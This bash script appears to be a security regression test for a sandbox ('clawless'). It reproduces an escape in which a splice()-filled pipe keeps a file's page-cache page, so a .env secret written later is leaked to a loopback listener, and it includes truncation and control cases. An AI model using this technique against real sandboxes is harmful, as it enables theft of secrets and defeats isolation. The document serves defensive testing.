#!/bin/bash
# A pipe buffer filled by splice() holds the file's page-cache page, not a copy: no
# descriptor, mapping, cwd or root of the file is left in the sandbox, so the late mark
# finds no holder, and the pipe later reads what the user wrote into the page.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.77.7.1
D=$R7/splice-page-holder; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H
gcc -O1 -o $W/splicehold $D/splicehold.c
outside() { # the user's tool: rename draft to .env, then write the secret into it in place
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; [ -e $W/ready ] || return; mv $W/draft $W/.env; sleep 0.5
  if [ "${TRUNC:-}" ]; then printf "SECRET-ENV-$1\n" > $W/.env; else printf "SECRET-ENV-$1\n" | dd of=$W/.env conv=notrunc status=none; fi; }
try() { # try NAME ARGS...
  printf 'draft-draft-draft-draft-draft\n' > $W/draft; rm -f $W/.env $W/ready
  outside $1 & CPID=$!; shift
  CLAWLESS_TRACE_DISCOVERY=1 run $H $W ./splicehold $IP draft 3 "$@" 2>&1 | grep -v "^clawless: discovery\|walk"; wait $CPID
  echo "--- .env now: $(cat $W/.env)"; }
listen $IP $D/out.txt
echo "== attack: the page is held by a pipe only"; try splice
verdict $D/out.txt SECRET-ENV-splice
listen $IP $D/out-trunc.txt
echo "== the same, the user's write truncating (printf > .env): the page leaves the file"; TRUNC=1 try trunc
verdict $D/out-trunc.txt SECRET-ENV-trunc
listen $IP $D/out-control.txt
echo "== control: the descriptor is kept (a holder the scan finds)"; try control hold
verdict $D/out-control.txt SECRET-ENV-control
